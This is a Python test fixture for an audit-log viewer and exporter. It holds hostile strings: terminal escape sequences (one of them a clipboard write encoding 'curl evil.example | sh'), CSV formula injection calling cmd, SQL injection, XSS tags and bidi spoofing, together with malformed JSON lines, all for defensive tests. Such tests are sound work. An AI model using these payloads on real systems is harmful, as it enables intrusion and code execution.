"""Hostile event text, and events that carry it in every free-text field.

Everything here is data: the suites decide what "stored faithfully" and "rendered inert"
mean. An event is built as a raw JSON object in the canonical key order of
``AuditEvent.to_dict`` (with ``area``), so its NDJSON line is exactly what ``export`` must
write back, byte for byte.

* ``HOSTILE``: terminal escapes (CSI, OSC 0/2/8/52, DCS), every C0 and C1 control, NUL, DEL,
  Rich and Textual markup, bidi overrides and isolates, zero-width and other format
  characters, wide CJK and emoji, combining marks, line separators, noncharacters, CSV
  formula starters, quotes and SQL.
* ``HOSTILE_MAILS``: performer addresses that pass validation yet carry markup, formula
  starters, quotes, ``%``/``_`` or wide characters (the mail is an identity, so controls,
  bidi and zero-width characters are refused there).
* ``FIELDS``: every free-text field; ``field_events`` puts each text in each field,
  ``everywhere_events`` puts each text in all of them at once, ``kitchen_sink`` puts all
  texts in all fields of one event.
* ``INVALID_LINES``: NDJSON lines that are not valid JSON or UTF-8, or nest too deeply.
* ``big_summary``: a 5 MB summary.
"""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import orjson

from tests.conftest import FIXED_NOW
from tui.domain.event import format_timestamp

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
C0 = "".join(chr(code) for code in range(0x20))
C1 = "".join(chr(code) for code in range(0x80, 0xA0))

HOSTILE: dict[str, str] = {
    # Terminal escape sequences (7-bit).
    "csi_clear": f"{ESC}[2J{ESC}[H{ESC}[3J cleared",
    "csi_colour": f"{ESC}[31;1;5mred blink{ESC}[0m",
    "csi_report": f"{ESC}[6n{ESC}[c{ESC}[21t report requests",
    "csi_altscreen": f"{ESC}[?1049h{ESC}[?25l hidden cursor",
    "csi_move": f"{ESC}[1A{ESC}[2K{ESC}[999D fake line",
    "osc0_title": f"{ESC}]0;pwned title{BEL}",
    "osc2_title": f"{ESC}]2;pwned title{ST}",
    "osc52_clipboard": f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}",
    "osc52_query": f"{ESC}]52;c;?{ST}",
    "osc8_link": f"{ESC}]8;;https://evil.example/{ST}click me{ESC}]8;;{ST}",
    "dcs_tcap": f"{ESC}P+q544e{ST}{ESC}P$q m{ST}",
    "esc_unterminated": f"prefix {ESC}]0;never terminated",
    # C0, C1, NUL and DEL.
    "c0_all": f"c0[{C0}]",
    "c1_all": f"c1[{C1}]",
    "c1_csi": "\x9b31m\x9b2J c1 csi",
    "c1_osc": "\x9d0;pwned\x9c c1 osc",
    "nul": "a\x00b\x00\x00c",
    "nul_leading": "\x00leading nul",
    "del": "del\x7f\x7f\x7fhidden",
    "bell_backspace": "bell\x07\x07 back\x08\x08\x08space",
    "carriage_return": "visible\rOVERWRITTEN",
    "newline_forgery": "ok\n2026-11-25 09:30:00  User Login  admin@example.com  fake row",
    "tabs_formfeed": "tab\tvt\x0bff\x0cend",
    # Rich and Textual markup and actions.
    "markup_bold": "[bold red]pwned[/] [/bold red]",
    "markup_click": "[@click=app.quit]PWNCLICK[/]",
    "markup_click_screen": "[@click=screen.action_copy]copy[/] [@click=app.bell]bell[/]",
    "markup_link": "[link=https://evil.example]LINKX[/link]",
    "markup_close": "[/] [/] [/]",
    "markup_brackets": "[[[ ]]] [ ] \\[escaped] [b",
    "markup_variables": "[$accent]var[/] [b $error on $success]x[/] $text",
    "markup_reverse": "[reverse blink underline]ALERT[/]",
    # Bidi, zero-width and other format characters.
    "bidi_override": "invoice\u202eexe.txt",
    "bidi_all": "\u202a\u202b\u202c\u202d\u202e embeddings",
    "bidi_isolates": "\u2066lri\u2069 \u2067rli\u2069 \u2068fsi\u2069 unterminated\u2067",
    "bidi_marks": "\u200e\u200f\u061c marks",
    "zero_width": "zero\u200bwidth\u200c\u200djoin\u2060\ufeffers",
    "soft_hyphen": "soft\xadhyphen",
    "tags": "tag\U000e0001\U000e0041\U000e007f chars",
    "interlinear": "\ufff9anchor\ufffaannotation\ufffb",
    # Wide, combining and otherwise odd characters.
    "cjk": "東京オフィス 管理者が設定を変更しました",
    "fullwidth": "ＦＵＬＬＷＩＤＴＨ　ＳＰＡＣＥ",
    "emoji": "deploy 🚀🔥💥 family 👩‍👩‍👧‍👦 flag 🇺🇳 skin 👍🏽",
    "combining": "e" + "\u0301" * 40 + " zalgo",
    "combining_leading": "\u0301\u0302 leading marks",
    "variation": "text\ufe0e emoji\ufe0f ✔\ufe0f",
    "separators": "line\u2028separator\u2029paragraph\x85nel",
    "noncharacters": "\ufffe\uffff\U0010ffff\U0001fffe end",
    "private_use": "\ue000\uf8ff\U000f0000 private",
    "replacement": "\ufffd\ufffd replaced",
    "hangul_filler": "\u3164\u115f\u1160 fillers",
    "long_word": "w" * 3000,
    # Spreadsheets (formula injection) and databases.
    "formula_eq": '=HYPERLINK("http://evil.example","click")',
    "formula_plus": "+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_cr": "\r=1+1",
    "quotes": "\"double\" 'single' `back` “curly” ‘curly’",
    "sql": "'; DROP TABLE events; -- \" OR 1=1 --",
    "like_wildcards": "100% of _all_ \\% \\_ %_%",
    "backslashes": "C:\\temp\\new \\n \\x1b[2J \\u202e \\\\",
    "fts_operators": 'NEAR(a b) AND OR NOT "phrase" col:val ^start * (x)',
    "tsquery_operators": "a & b | !c <-> d :* 'q'",
    "json_lookalike": '{"id": "evt_forged", "summary": "forged"}',
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
}

HOSTILE_MAILS: dict[str, str] = {
    "mail_variable": "[$accent]PWN[/]@evil.example",
    "mail_link": "[link=https://evil.example]x[/link]@evil.example",
    "mail_bold": "[bold]boss[/bold]@evil.example",
    "mail_formula": '=HYPERLINK("http://evil")@evil.example',
    "mail_plus": "+1-555-0100@evil.example",
    "mail_minus": "-2+3@evil.example",
    "mail_quotes": 'o\'brien"x"@evil.example',
    "mail_wildcards": "100%_all\\x@evil.example",
    "mail_wide": "東京オフィス@例え.jp",
    "mail_emoji": "🚀🔥@evil.example",
}

#: Every free-text field of an event, by a short tag used in event ids.
FIELDS: dict[str, str] = {
    "pname": "performer.name",
    "role": "performer.role",
    "tname": "context.tenant.name",
    "ua": "context.user_agent",
    "kind": "target.kind",
    "tid": "target.id",
    "target": "target.name",
    "summary": "summary",
    "dkey": "details key",
    "dval": "details value",
    "chg": "details.changes",
}

PLAIN_TENANT = ("t_plain", "Plain Tenant")
_AREA = {
    "Collector Created": "Infrastructure & Agents",
    "Collector Updated": "Infrastructure & Agents",
}


def base_event(event_id: str, n: int, *, tenant: tuple[str, str] | None = PLAIN_TENANT) -> dict:
    """A valid raw event in canonical key order, ``n`` seconds before FIXED_NOW."""
    return {
        "id": event_id,
        "type": "Collector Created",
        "area": _AREA["Collector Created"],
        "timestamp": format_timestamp(FIXED_NOW - timedelta(seconds=n + 1)),
        "performer": {
            "id": "usr_1",
            "mail": "ada.admin@example.com",
            "name": "Ada",
            "role": "Admin",
        },
        "context": {
            "tenant": None if tenant is None else {"id": tenant[0], "name": tenant[1]},
            "source_ip": "203.0.113.7",
            "user_agent": "Mozilla/5.0",
        },
        "target": {"kind": "collector", "id": "col_1", "name": "Collector"},
        "summary": "Created collector",
        "details": {},
    }


def _updated(raw: dict[str, Any], changes: list[dict[str, Any]]) -> None:
    raw["type"] = "Collector Updated"
    raw["area"] = _AREA["Collector Updated"]
    raw["details"]["changes"] = changes


def _required(text: str) -> str:
    """Required fields refuse blank text; a text that strips to nothing gets visible ends."""
    return text if text.strip() else f"x{text}x"


def put(raw: dict[str, Any], tag: str, text: str, index: int) -> dict[str, Any]:
    """Put ``text`` in the field ``tag`` (a key of FIELDS) of ``raw``."""
    if tag == "pname":
        raw["performer"]["name"] = text
    elif tag == "role":
        raw["performer"]["role"] = _required(text)
    elif tag == "tname":
        # A tenant of its own, so the tenants table (scope picker, header) holds the name.
        raw["context"]["tenant"] = {"id": f"t_h{index:02d}", "name": _required(text)}
    elif tag == "ua":
        raw["context"]["user_agent"] = text
    elif tag == "kind":
        raw["target"]["kind"] = _required(text)
    elif tag == "tid":
        raw["target"]["id"] = text
    elif tag == "target":
        raw["target"]["name"] = _required(text)
    elif tag == "summary":
        raw["summary"] = _required(text)
    elif tag == "dkey":
        raw["details"] = {text: "value", "nested": {text: [text]}}
    elif tag == "dval":
        raw["details"] = {"note": text, "list": [text, {"inner": text}, [[text]]]}
    elif tag == "chg":
        _updated(raw, [{"field": _required(text), "old": text, "new": [text, {"k": text}]}])
    else:
        raise ValueError(tag)
    return raw


def field_events(prefix: str) -> list[dict[str, Any]]:
    """One event per hostile text and field: ``{prefix}{index}_{tag}``."""
    found = []
    for index, text in enumerate(HOSTILE.values()):
        for tag in FIELDS:
            n = len(found)
            found.append(put(base_event(f"{prefix}{index:02d}_{tag}", n), tag, text, index))
    return found


def everywhere_events(prefix: str, offset: int = 0) -> list[dict[str, Any]]:
    """One event per hostile text, in every free-text field at once: ``{prefix}{index}_all``."""
    found = []
    for index, text in enumerate(HOSTILE.values()):
        raw = base_event(f"{prefix}{index:02d}_all", offset + index)
        for tag in FIELDS:
            if tag not in ("tname", "dkey", "dval", "chg"):
                put(raw, tag, text, index)
        raw["context"]["tenant"] = {"id": f"t_e{index:02d}", "name": _required(text)}
        raw["details"] = {text: text, "list": [text]}
        _updated(raw, [{"field": _required(text), "old": text, "new": {"k": text}}])
        found.append(raw)
    return found


def kitchen_sink(event_id: str, n: int) -> dict[str, Any]:
    """One event holding every hostile text in every free-text field (joined by " | ")."""
    texts = list(HOSTILE.values())
    everything = " | ".join(texts)
    raw = base_event(event_id, n, tenant=("t_sink", everything))
    for tag in ("pname", "role", "ua", "kind", "tid", "target", "summary"):
        put(raw, tag, everything, 0)
    raw["details"] = {text: text for text in texts} | {"all": texts}
    _updated(raw, [{"field": text, "old": text, "new": [text]} for text in texts])
    return raw


def mail_events(prefix: str, offset: int = 0) -> list[dict[str, Any]]:
    """One event per hostile (valid) performer address: ``{prefix}_{name}``."""
    found = []
    for n, (name, mail) in enumerate(HOSTILE_MAILS.items()):
        raw = base_event(f"{prefix}_{name}", offset + n)
        raw["performer"]["mail"] = mail
        raw["summary"] = f"Done by {mail}"
        found.append(raw)
    return found


def ndjson_line(raw: dict[str, Any]) -> bytes:
    """The NDJSON line of ``raw`` as ``export`` writes it (line separators escaped)."""
    return (
        orjson.dumps(raw)
        .replace(b"\xe2\x80\xa8", b"\\u2028")
        .replace(b"\xe2\x80\xa9", b"\\u2029")
        .replace(b"\xc2\x85", b"\\u0085")
    )


def nested(depth: int) -> Any:
    """``depth`` levels of objects and arrays, alternating (the outermost is an object)."""
    value: Any = "leaf"
    for level in range(depth):
        value = {"k": value} if (depth - level) % 2 else [value]
    return value


def nested_line(event_id: str, n: int, details_depth: int) -> bytes:
    """An event line whose ``details`` nest ``details_depth`` levels (``details`` is 1).

    Written by hand: orjson cannot even encode 255 levels.
    """
    head = ndjson_line(base_event(event_id, n))
    assert head.endswith(b'"details":{}}')
    inner = details_depth - 1  # levels below ``details`` itself
    opens = b"".join(b'{"k":' if level % 2 == 0 else b"[" for level in range(inner))
    closes = b"".join(b"}" if level % 2 == 0 else b"]" for level in reversed(range(inner)))
    return head[: -len(b"{}}")] + b'{"k":' + opens + b"1" + closes + b"}}"


def big_summary(size: int = 5 * 1024 * 1024, *, dense: bool = True) -> str:
    """A summary of ``size`` characters: hostile through and through, or (``dense=False``)
    plain words with hostile text only at both ends."""
    if dense:
        unit = " ".join(HOSTILE[name] for name in ("csi_clear", "markup_click", "bidi_override"))
    else:
        unit = "the quick brown fox jumps over the lazy dog "
    head = HOSTILE["osc52_clipboard"] + HOSTILE["markup_click"] + HOSTILE["bidi_override"]
    tail = HOSTILE["osc0_title"] + HOSTILE["markup_link"] + HOSTILE["c1_csi"]
    body = (unit * (size // len(unit) + 1))[: size - len(head) - len(tail)]
    return head + body + tail


def _line(event_id: str, n: int) -> bytes:
    return ndjson_line(base_event(event_id, n))


def _details(event_id: str, n: int, details: bytes) -> bytes:
    """An event line whose details are the raw bytes ``details``."""
    return _line(event_id, n).replace(b'"details":{}', b'"details":' + details)


def _splice(event_id: str, n: int, summary: bytes) -> bytes:
    """An event line whose summary is the raw bytes ``summary`` (between the quotes)."""
    return _line(event_id, n).replace(b'"Created collector"', b'"' + summary + b'"')


#: (name, line, what the reason must say). Each must be refused with its line number.
INVALID_LINES: list[tuple[str, bytes, str]] = [
    ("utf8_ff", _splice("bad_ff", 1, b"caf\xff"), "not UTF-8 text: byte"),
    ("utf8_latin1", _splice("bad_l1", 2, b"caf\xe9"), "not UTF-8 text: byte"),
    ("utf8_overlong", _splice("bad_ol", 3, b"\xc0\xaf"), "not UTF-8 text: byte"),
    ("utf8_cesu", _splice("bad_cs", 4, b"\xed\xa0\x80"), "not UTF-8 text: byte"),
    ("utf8_truncated", _splice("bad_tr", 5, b"\xe2\x82"), "not UTF-8 text: byte"),
    ("utf8_beyond", _splice("bad_bd", 6, b"\xf4\x90\x80\x80"), "not UTF-8 text: byte 0xf4"),
    ("utf8_in_key", _details("bad_k", 7, b'{"\xfe":1}'), "not UTF-8 text: byte"),
    ("lone_high", _splice("bad_hi", 8, b"\\ud800"), "not valid JSON (no low surrogate"),
    ("lone_low", _splice("bad_lo", 9, b"\\udc00"), "not valid JSON ("),
    ("high_then_letter", _splice("bad_hl", 10, b"\\ud800\\u0041"), "not valid JSON ("),
    ("raw_nul_byte", _splice("bad_nul", 11, b"a\x00b"), "unexpected control character"),
    ("raw_esc_byte", _splice("bad_esc", 12, b"a\x1b[2Jb"), "unexpected control character"),
    ("raw_newline_cr", _splice("bad_cr", 13, b"a\rb"), "unexpected control character"),
    ("nan", _details("bad_nan", 14, b'{"x":NaN}'), "not valid JSON ("),
    ("infinity", _details("bad_inf", 15, b'{"x":-Infinity}'), "not valid JSON ("),
    ("huge_float", _details("bad_e", 16, b'{"x":1e400}'), "number is infinity"),
    ("huge_integer", _details("bad_i", 17, b'{"x":' + b"9" * 400 + b"}"), "number is infinity"),
    ("truncated", _line("bad_t", 18)[:-20], "not valid JSON ("),
    ("two_objects", _line("bad_2", 19) + _line("bad_3", 20), "unexpected content after document"),
    ("array", b"[]", "an event must be a JSON object, not an array"),
    ("string", b'"\\u001b]0;pwned\\u0007"', "an event must be a JSON object, not a string"),
    ("null", b"null", "an event must be a JSON object, not null"),
    ("depth_129", nested_line("bad_d129", 21, 129), "details: nested deeper than 128 levels"),
    ("depth_254", nested_line("bad_d254", 22, 254), "details: nested deeper than 128 levels"),
    ("depth_255", nested_line("bad_d255", 23, 255), "details: nested deeper than 128 levels"),
    ("depth_1000", nested_line("bad_d1k", 24, 1000), "details: nested deeper than 128 levels"),
    ("depth_1030", nested_line("bad_d1030", 25, 1030), "not valid JSON (depth limit exceeded"),
    ("depth_100k", nested_line("bad_d100k", 26, 100_000), "not valid JSON (depth limit exceeded"),
    (
        "unknown_field_escape",
        _line("bad_u", 27).replace(b'"details":{}', b'"details":{},"\\u001b]0;pwned\\u0007":1'),
        "unknown field (not part of the audit event format)",
    ),
    (
        "unknown_nested_escape",
        _line("bad_un", 28).replace(b'"role":"Admin"', b'"role":"Admin","\\u009b2J\\u202e":1'),
        "performer.\\x9b2J\\u202e: unknown field",
    ),
    ("surrogate_in_mail", _line("bad_m", 29).replace(b"ada.admin@", b"\\ud83d@"), "not valid JSON"),
    ("bidi_in_mail", _line("bad_bm", 30).replace(b"ada.admin@", b"ada\\u202e@"), "performer.mail"),
    ("escape_in_id", _line("bad_id", 31).replace(b'"id":"bad_id"', b'"id":"evt\\u001b[2J"'), "id:"),
]

#: (name, raw details) accepted and stored exactly; their numbers test the JSON edges.
EDGE_DETAILS: dict[str, dict[str, Any]] = {
    "int64_edges": {"min": -(2**63), "max": 2**63 - 1, "umax": 2**64 - 1},
    "beyond_64_bits": {"big": 2**64, "small": -(2**63) - 1, "huge": 2**1000, "neg": -(2**1000)},
    "floats": {"max": 1.7976931348623157e308, "tiny": 5e-324, "neg_zero": -0.0, "tenth": 0.1},
    "nul_everywhere": {"\x00": "\x00", "a\x00b": ["\x00", {"\x00\x00": None}]},
    "depth_128": {"n": nested(127)},
    "empty_things": {"": "", "e": {}, "l": [], "n": None, "t": True, "f": False},
    "many_keys": {f"k{n}": n for n in range(2000)},
}
